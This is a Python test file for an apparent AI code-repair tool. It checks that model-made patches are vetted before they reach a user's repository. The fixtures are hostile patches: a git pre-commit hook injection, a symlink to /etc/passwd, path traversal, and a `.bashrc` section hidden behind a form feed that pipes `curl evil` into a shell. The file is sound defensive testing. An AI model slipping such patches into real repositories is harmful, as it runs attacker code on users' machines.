"""Item 2: a model-made patch reaches the user's tree only through host-side checks (`repair --apply`)."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from agentflow.cli.main import run
from agentflow.errors import UserError, printable
from agentflow.swe.tree import apply_to_tree

from .hostile_git import WHERES, arm, fired, self_test


def _repo(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "mod.py").write_text("x = 1\n")
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    return repo


HOOK = """diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit
new file mode 100755
--- /dev/null
+++ b/.git/hooks/pre-commit
@@ -0,0 +1,2 @@
+#!/bin/sh
+touch /tmp/pwned
"""
EXEC = """diff --git a/run.sh b/run.sh
new file mode 100755
--- /dev/null
+++ b/run.sh
@@ -0,0 +1 @@
+echo hi
"""
LINK = """diff --git a/link b/link
new file mode 120000
--- /dev/null
+++ b/link
@@ -0,0 +1 @@
+/etc/passwd
\\ No newline at end of file
"""
CLIMB = """--- a/../outside.py
+++ b/../outside.py
@@ -0,0 +1 @@
+evil = 1
"""
GOOD = """diff --git a/mod.py b/mod.py
--- a/mod.py
+++ b/mod.py
@@ -1 +1,2 @@
-x = 1
+x = 2
+y = 3
"""


@pytest.mark.parametrize(
    ("patch", "reason"),
    [(HOOK, "inside .git/"), (EXEC, "executable"), (LINK, "symlink"), (CLIMB, "climbs out")],
)
def test_dangerous_patches_are_refused_and_nothing_is_written(tmp_path: Path, patch: str, reason: str) -> None:
    repo = _repo(tmp_path)
    before = sorted(p.relative_to(repo) for p in repo.rglob("*"))
    with pytest.raises(UserError, match=reason):
        apply_to_tree(repo, patch)
    assert sorted(p.relative_to(repo) for p in repo.rglob("*")) == before
    assert not (tmp_path / "outside.py").exists()


def test_a_folder_that_is_a_symlink_in_the_tree_is_refused(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    os.symlink(elsewhere, repo / "pkg")
    patch = "--- /dev/null\n+++ b/pkg/new.py\n@@ -0,0 +1 @@\n+a = 1\n"
    with pytest.raises(UserError, match="symlink"):
        apply_to_tree(repo, patch)
    assert not (elsewhere / "new.py").exists()


def test_executable_modes_pass_when_allowed_and_a_good_patch_applies_with_a_diffstat(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    done = apply_to_tree(repo, GOOD)
    assert (repo / "mod.py").read_text() == "x = 2\ny = 3\n"
    assert "mod.py | +2 -1" in done.diffstat
    apply_to_tree(repo, EXEC, allow_exec=True)
    assert os.access(repo / "run.sh", os.X_OK)


def test_a_patch_git_refuses_is_not_retried_with_gnu_patch(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    fuzzy = GOOD.replace("-x = 1", "-x = 100")  # does not match: git refuses, `patch --fuzz` would guess
    with pytest.raises(UserError, match="does not apply"):
        apply_to_tree(repo, fuzzy)
    assert (repo / "mod.py").read_text() == "x = 1\n"


def test_cli_allow_exec_needs_apply(capsys: pytest.CaptureFixture[str]) -> None:
    code = run(["repair", "--allow-exec", "."])
    assert code == 2


# Modes and line breaks as git reads them, not as a string compare or str.splitlines() would: git takes any
# octal mode, keeps only the file type and the owner's x bit, and ends a line only at "\n".
EXEC_ODD_MODES = [EXEC.replace("100755", mode) for mode in ("0100755", "100775", "100711")]
LINK_OUT = LINK.replace("120000", "120777").replace("/etc/passwd", "../../outside")
HIDDEN = GOOD + "--- /dev/null\f\n+++ b/.bashrc\n@@ -0,0 +1 @@\n+curl evil | sh\n"
"""A form feed ends a line for str.splitlines(), not for git: the .bashrc section was part of mod.py's."""
FF_NAME = "--- /dev/null\n+++ b/ok.py\fx\n@@ -0,0 +1 @@\n+a = 1\n"
"""git writes `ok.py<FF>x`; a reader splitting at the form feed sees `ok.py`."""


def _files(repo: Path) -> dict[str, tuple[bool, bool, bytes]]:
    """Every path in the work tree (not .git/): (is a symlink, is executable, content or link target)."""
    out = {}
    for p in repo.rglob("*"):
        rel = p.relative_to(repo).as_posix()
        if rel == ".git" or rel.startswith(".git/") or (p.is_dir() and not p.is_symlink()):
            continue
        link = p.is_symlink()
        data = os.readlink(p).encode() if link else p.read_bytes()
        out[rel] = (link, not link and os.access(p, os.X_OK), data)
    return out


def _listed_paths(diffstat: str) -> set[str]:
    return {line.rsplit(" | ", 1)[0].strip() for line in diffstat.splitlines() if " | " in line}


@pytest.mark.parametrize("patch", EXEC_ODD_MODES, ids=["0100755", "100775", "100711"])
def test_executable_in_any_mode_spelling_needs_allow_exec(tmp_path: Path, patch: str) -> None:
    repo = _repo(tmp_path)
    before = _files(repo)
    with pytest.raises(UserError, match="makes run.sh executable"):
        apply_to_tree(repo, patch)
    assert _files(repo) == before
    done = apply_to_tree(repo, patch, allow_exec=True)
    assert os.access(repo / "run.sh", os.X_OK)
    assert "run.sh | +1 -0" in done.diffstat


def test_a_symlink_in_any_mode_spelling_is_refused(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    before = _files(repo)
    with pytest.raises(UserError, match="makes link a symlink"):
        apply_to_tree(repo, LINK_OUT, allow_exec=True)
    assert _files(repo) == before
    assert not os.path.lexists(repo / "link")


def test_repointing_an_existing_symlink_is_refused(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    os.symlink("mod.py", repo / "link")
    patch = "diff --git a/link b/link\n--- a/link\n+++ b/link\n@@ -1 +1 @@\n-mod.py\n\\ No newline at end of file\n+/etc/passwd\n\\ No newline at end of file\n"
    with pytest.raises(UserError, match="symlink"):
        apply_to_tree(repo, patch)
    assert os.readlink(repo / "link") == "mod.py"


@pytest.mark.parametrize("patch", [HIDDEN, FF_NAME], ids=["hidden-section", "name-with-form-feed"])
def test_the_diffstat_lists_every_file_git_writes(tmp_path: Path, patch: str) -> None:
    repo = _repo(tmp_path)
    before = _files(repo)
    done = apply_to_tree(repo, patch)
    after = _files(repo)
    written = {path for path in before.keys() | after.keys() if before.get(path) != after.get(path)}
    assert written  # the patch did land
    shown = {printable(path) for path in written}
    assert _listed_paths(done.diffstat) == shown, done.diffstat
    assert f"{len(written)} file(s) changed" in done.diffstat


def test_a_rename_is_listed_with_both_names_and_checked_on_both(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    rename = "diff --git a/mod.py b/lib.py\nsimilarity index 100%\nrename from mod.py\nrename to lib.py\n"
    done = apply_to_tree(repo, rename)
    assert (repo / "lib.py").read_text() == "x = 1\n" and not (repo / "mod.py").exists()
    assert "mod.py => lib.py | +0 -0" in done.diffstat
    into_git = rename.replace("lib.py", ".git/hooks/pre-commit").replace("mod.py", "lib.py")
    with pytest.raises(UserError, match="inside .git/"):
        apply_to_tree(repo, into_git)


def test_a_tree_inside_another_repository_gets_the_patch_at_the_paths_checked(tmp_path: Path) -> None:
    outer = _repo(tmp_path)  # e.g. a dotfiles repository in $HOME around the project folder
    repo = outer / "project"
    repo.mkdir()
    (repo / "mod.py").write_text("x = 1\n")
    done = apply_to_tree(repo, GOOD)
    assert (repo / "mod.py").read_text() == "x = 2\ny = 3\n", "git skipped the file the diffstat lists"
    assert _listed_paths(done.diffstat) == {"mod.py"}
    assert (outer / "mod.py").read_text() == "x = 1\n"


# ------------------------------------------------------------------ nothing of the user's repository runs

DELETE = "diff --git a/mod.py b/mod.py\ndeleted file mode 100644\n--- a/mod.py\n+++ /dev/null\n@@ -1 +0,0 @@\n-x = 1\n"
NESTED = "--- /dev/null\n+++ b/pkg/sub/new.py\n@@ -0,0 +1 @@\n+a = 1\n"


def _armed_repo(tmp_path: Path, where: str) -> tuple[Path, Path]:
    repo = _repo(tmp_path)
    (repo / "notes.txt").write_text("kept\n")
    markers = tmp_path / "markers"
    arm(repo, markers, where)
    assert self_test(repo, markers), "the armed repository sets nothing off"
    shutil.rmtree(markers)
    return repo, markers


@pytest.mark.parametrize("where", WHERES)
def test_applying_a_patch_runs_nothing_of_the_users_repository(tmp_path: Path, where: str) -> None:
    """Every config key git runs a command from, hooks, attributes naming drivers: `apply_to_tree` (behind
    `repair --apply` and `run --apply`) sets none of them off, whatever the patch does, and writes the bytes
    it checked (the repository's `core.autocrlf=true` and filters change nothing)."""
    repo, markers = _armed_repo(tmp_path, where)
    apply_to_tree(repo, GOOD)
    assert (repo / "mod.py").read_bytes() == b"x = 2\ny = 3\n"
    apply_to_tree(repo, EXEC, allow_exec=True)
    apply_to_tree(repo, NESTED)
    assert (repo / "pkg" / "sub" / "new.py").read_text() == "a = 1\n"
    apply_to_tree(repo, NESTED.replace("/dev/null", "a/pkg/sub/new.py").replace("+++ b/pkg/sub/new.py", "+++ /dev/null")
                  .replace("@@ -0,0 +1 @@\n+a = 1", "@@ -1 +0,0 @@\n-a = 1"))
    assert not (repo / "pkg").exists(), "a folder the patch empties is removed, as git apply does"
    apply_to_tree(repo, "diff --git a/notes.txt b/kept.txt\nsimilarity index 100%\nrename from notes.txt\nrename to kept.txt\n")
    assert (repo / "kept.txt").read_text() == "kept\n"
    with pytest.raises(UserError, match="does not apply"):
        apply_to_tree(repo, GOOD)
    assert fired(markers) == []


@pytest.mark.parametrize("where", WHERES)
def test_repair_check_and_apply_run_nothing_of_the_users_repository(tmp_path: Path, where: str) -> None:
    """The real CLI (`repair REPO --check`, then `repair REPO --apply` with a replayed model, local sandbox)."""
    from tests.repair.conftest import scripted_cassette
    from tests.repair.test_preflight import FIX, ISSUE, make_repo

    repo = make_repo(tmp_path / "pager-repo")
    markers = tmp_path / "markers"
    arm(repo, markers, where)
    cassette = scripted_cassette(tmp_path / "fix.json", [FIX] * 8)
    common = ["--sandbox", "local", "--test-cmd", "python -m pytest -q"]
    check = _cli("repair", str(repo), "--check", *common)
    assert check.returncode == 0, check.stderr[-2000:]
    assert fired(markers) == []
    done = _cli("repair", str(repo), "--issue", ISSUE, "--model", f"replay:{cassette}", "-c", "edit.format=search_replace",
                "-c", "search.concurrency=1", "-c", "rank=false", "-o", str(tmp_path / "run"), "--apply", *common)
    assert "applied to" in done.stdout and "pager/core.py | +1 -1" in done.stdout, done.stderr[-2000:]
    assert "start = (page - 1) * per_page" in (repo / "pager" / "core.py").read_text()
    assert fired(markers) == []


def _cli(*argv: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    return subprocess.run([sys.executable, "-m", "agentflow.cli.main", *argv], env=env, capture_output=True,
                          text=True, timeout=300, check=False)
